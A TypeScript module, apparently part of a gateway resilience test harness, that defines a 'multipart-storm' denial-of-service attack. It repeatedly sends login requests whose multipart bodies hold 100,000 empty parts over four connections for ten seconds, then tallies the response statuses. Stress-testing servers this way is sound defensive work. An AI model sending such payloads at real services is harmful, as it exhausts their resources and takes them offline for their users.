import { setTimeout as pause } from 'node:timers/promises';
import type { Attack } from './attack';
import { connection, statusOn, tally } from './attacker';

const PARTS = 100_000;
const CONNECTIONS = 4;
const SECONDS = 10;

const BODY = '--B\r\n'.repeat(PARTS);
const REQUEST = `POST /api/user-login HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: ${BODY.length}\r\n\r\n${BODY}`;

/** Forms that are cheap to send and expensive to parse. */
export const multipartStorm: Attack = {
  name: 'multipart-storm',
  what: `${CONNECTIONS} connections that send logins of ${PARTS.toLocaleString('en')} empty parts, one after the other`,
  run: async ({ gateway }) => {
    const until = Date.now() + SECONDS * 1_000;
    const statuses: number[] = [];
    const keepSending = async () => {
      while (Date.now() < until) {
        const socket = await connection(gateway.port);
        const status = statusOn(socket);
        const closed = new Promise((resolve) => socket.once('close', resolve));
        socket.end(REQUEST);
        await Promise.race([closed, pause(SECONDS * 1_000, undefined, { ref: false })]);
        statuses.push(status());
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, keepSending));
    return tally(statuses);
  },
};
